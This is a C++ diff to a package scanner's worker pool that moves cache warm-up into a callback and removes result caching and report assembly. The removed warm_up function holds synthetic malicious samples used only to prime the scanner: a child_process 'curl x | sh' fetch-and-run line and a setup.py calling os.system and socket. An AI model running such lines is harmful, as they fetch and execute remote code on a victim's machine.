@@ -14,20 +14,17 @@
 #include <ctime>
 #include <mutex>
 #include <optional>
+#include <utility>
 #include <vector>
 
-#include "behaviour/catalogue.h"
-#include "scan/deep_stack.h"
-#include "scan/result_cache.h"
+#include "archive/file_tree.h"
 #include "scan/sandbox.h"
-#include "scan/worker_result.h"
 
 namespace cerebro {
 namespace {
 
 using Clock = std::chrono::steady_clock;
-constexpr uint64_t kMessageBytes = 4096;            // of frames that are no reports
-constexpr uint64_t kMostKeptBytes = 256 << 20;      // of an input whose report is kept
+constexpr uint64_t kMessageBytes = 4096;            // of frames that are no answers
 constexpr std::chrono::seconds kStartPatience{60};  // for a worker to be ready
 
 // ---- the process that forks workers; it is told over a socket that keeps messages apart
@@ -74,19 +71,6 @@ void load_character_sets() {
   static_cast<void>(read_bytes(kZip, {}, {}));
 }
 
-// Fills caches that every worker would have to fill again: tables and patterns. It costs more than
-// a small package, so the first worker, which may be the last, does not wait for it.
-void warm_up(const Model& model, const ScanOptions& options) {
-  FileTree tree;
-  tree.files.push_back({"package/index.js",
-                        "const c = require('child_process'); c.exec(process.env.A + 'curl x | sh')",
-                        false, false});
-  tree.files.push_back(
-      {"package/setup.py", "import os\nos.system('id')\nexec('import socket')\n", false, false});
-  scan_tree(
-      "", [&] { return Result<FileTree>(std::move(tree)); }, model, options);
-}
-
 // A worker that is taken over should find no token in its memory.
 void forget_environment() {
   for (char** variable = environ; *variable != nullptr; ++variable) {
@@ -95,8 +79,8 @@ void forget_environment() {
   clearenv();
 }
 
-[[noreturn]] void run_forker(int socket, const Model& model, const ScanOptions& options,
-                             WorkerBody body) {
+[[noreturn]] void run_forker(int socket, const Limits& limits, const WorkerBody& body,
+                             const std::function<void()>& warm_up) {
   // What a terminal sends to the whole group is the parent's business.
   std::signal(SIGINT, SIG_IGN);
   std::signal(SIGHUP, SIG_IGN);
@@ -119,13 +103,15 @@ void forget_environment() {
     if (order.what == Order::What::kReap) {
       done.pid = waitpid(order.pid, &done.value, 0);
     } else {
-      if (++started == 2) warm_up(model, options);
+      // It costs more than a small package, so the first worker, which may be the last, does not
+      // wait for it.
+      if (++started == 2 && warm_up) warm_up();
       int ends[2];
       if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends) == 0) {
         ours = Descriptor(ends[0]);
         theirs = Descriptor(ends[1]);
         done.pid = fork();
-        if (done.pid == 0) run_worker(theirs.get(), model, options, body);
+        if (done.pid == 0) run_worker(theirs.get(), limits, body);
       }
       done.value = errno;
     }
@@ -166,17 +152,14 @@ Error cause_of_death(int status, const Limits& limits) {
 }  // namespace
 
 struct WorkerPool::Impl {
-  const Model& model;
-  const ScanOptions options;
+  const Limits limits;
   pid_t forker = 0;
   std::mutex ordering;  // one order at a time
   Descriptor orders;
-  std::optional<ResultCache> results;
   std::mutex idling;
   std::vector<Worker> idle;
 
-  Impl(const Model& its_model, ScanOptions its_options)
-      : model(its_model), options(std::move(its_options)) {}
+  explicit Impl(const Limits& its_limits) : limits(its_limits) {}
 
   std::optional<Done> order(Order what, Descriptor* fd) {
     const std::lock_guard one(ordering);
@@ -227,7 +210,7 @@ struct WorkerPool::Impl {
     return fail(Code::kSandboxUnavailable,
                 received == Received::kFrame && frame.type == FrameType::kFailed
                     ? frame.bytes
-                    : "a worker did not start: " + cause_of_death(status, options.limits).message);
+                    : "a worker did not start: " + cause_of_death(status, limits).message);
   }
 
   Result<Worker> take_worker() {
@@ -252,53 +235,39 @@ struct WorkerPool::Impl {
     clockid_t clock;
     timespec used{};
     if (clock_getcpuclockid(pid, &clock) != 0 || clock_gettime(clock, &used) != 0) return;
-    rlimit both{static_cast<rlim_t>(used.tv_sec) + options.limits.package_cpu_ms / 1000 + 1,
-                RLIM_INFINITY};
+    rlimit both{static_cast<rlim_t>(used.tv_sec) + limits.package_cpu_ms / 1000 + 1, RLIM_INFINITY};
     rlimit now{};
     if (prlimit(pid, RLIMIT_CPU, nullptr, &now) == 0) both.rlim_max = now.rlim_max;
     prlimit(pid, RLIMIT_CPU, &both, nullptr);
   }
 
-  Result<ScanReport> ask(const ScanInput& what) {
-    TRY(input, open_input(what, options.limits));
-    if (!results) return ask_worker(what, input);
-    TRY(copy, copied_input(std::move(input), what.target, kMostKeptBytes));
-    const std::string key = results->key(copy, what.target);
-    if (std::optional<ScanReport> known = results->find(key)) return std::move(*known);
-    Result<ScanReport> report = ask_worker(what, copy);
-    if (report) results->put(key, *report);
-    return report;
-  }
-
-  Result<ScanReport> ask_worker(const ScanInput& what, TargetInput& input) {
+  Result<int> ask(const std::string& target, TargetInput& input, const AnswerTaker& take) {
     TRY(worker, take_worker());
     allow_cpu(worker.pid);
     WorkerFrame frame;
     Received received = Received::kClosed;
-    const auto deadline = Clock::now() + std::chrono::milliseconds(options.limits.package_ms);
-    if (send_request(worker.socket.get(), what.target, input)) {
+    const auto deadline = Clock::now() + std::chrono::milliseconds(limits.package_ms);
+    if (send_request(worker.socket.get(), target, input)) {
       input.bytes.reset();
-      received = receive_frame(worker.socket.get(), deadline, options.limits.result_bytes, frame);
+      received = receive_frame(worker.socket.get(), deadline, limits.result_bytes, frame);
     }
     if (received == Received::kFrame &&
-        (frame.type == FrameType::kReport || frame.type == FrameType::kLastReport)) {
-      Result<ScanReport> report = parse_report(frame.bytes);
-      const bool keep = report && frame.type == FrameType::kReport &&
-                        ++worker.packages < options.limits.packages_per_worker;
+        (frame.type == FrameType::kAnswer || frame.type == FrameType::kLastAnswer)) {
+      Result<int> taken = take(frame.bytes);
+      const bool keep = taken && frame.type == FrameType::kAnswer &&
+                        ++worker.packages < limits.packages_per_worker;
       if (keep) {
         const std::lock_guard lock(idling);
         idle.push_back(std::move(worker));
       } else {
         bury(worker);
       }
-      return report;
+      return taken;
     }
     const int status = bury(worker);
-    if (received == Received::kClosed)
-      return tl::unexpected(cause_of_death(status, options.limits));
+    if (received == Received::kClosed) return tl::unexpected(cause_of_death(status, limits));
     if (received == Received::kLate) {
-      return fail(Code::kWorkerTime,
-                  "more than " + std::to_string(options.limits.package_ms) + " ms");
+      return fail(Code::kWorkerTime, "more than " + std::to_string(limits.package_ms) + " ms");
     }
     if (received == Received::kFrame && frame.type == FrameType::kRefused) {
       return fail(Code::kWorkerRefused,
@@ -317,9 +286,9 @@ WorkerPool::~WorkerPool() {
   }
 }
 
-Result<std::unique_ptr<WorkerPool>> WorkerPool::start(const Model& model,
-                                                      const ScanOptions& options, WorkerBody body) {
-  auto impl = std::make_unique<Impl>(model, options);
+Result<std::unique_ptr<WorkerPool>> WorkerPool::start(const Limits& limits, WorkerBody body,
+                                                      std::function<void()> warm_up) {
+  auto impl = std::make_unique<Impl>(limits);
   int ends[2];
   if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, ends) != 0) {
     return fail(Code::kSandboxUnavailable, std::string("no socket: ") + std::strerror(errno));
@@ -331,7 +300,7 @@ Result<std::unique_ptr<WorkerPool>> WorkerPool::start(const Model& model,
     return fail(Code::kSandboxUnavailable,
                 std::string("no process can be started: ") + std::strerror(errno));
   }
-  if (impl->forker == 0) run_forker(theirs.get(), model, options, body);
+  if (impl->forker == 0) run_forker(theirs.get(), limits, body, warm_up);
   theirs.reset();
   std::unique_ptr<WorkerPool> pool(new WorkerPool(std::move(impl)));
   Result<Worker> first = pool->impl_->start_worker();
@@ -340,29 +309,9 @@ Result<std::unique_ptr<WorkerPool>> WorkerPool::start(const Model& model,
   return pool;
 }
 
-void WorkerPool::keep_results(const std::string& folder) {
-  impl_->results.emplace(folder, impl_->model, impl_->options);
-  if (!impl_->results->enabled()) impl_->results.reset();
-}
-
-ScanReport WorkerPool::scan(const ScanInput& input) {
-  const auto start = Clock::now();
-  ScanReport report;
-  Result<ScanReport> read = impl_->ask(input);
-  if (read) {
-    report = std::move(*read);
-  } else {
-    report.notes.push_back(note_of(read.error(), input.target));
-  }
-  report.target = input.target;
-  report.origin_file = input.origin_file;
-  report.origin_line = input.origin_line;
-  report.released = input.released;
-  report.model = impl_->model.info().version;
-  report.catalogue = Catalogue::builtin().version();
-  add_notes(input.notes, impl_->model, impl_->options, report);
-  report.total_ms = std::chrono::duration<double, std::milli>(Clock::now() - start).count();
-  return report;
+Result<int> WorkerPool::ask(const std::string& target, TargetInput& input,
+                            const AnswerTaker& take) {
+  return impl_->ask(target, input, take);
 }
 
 }  // namespace cerebro
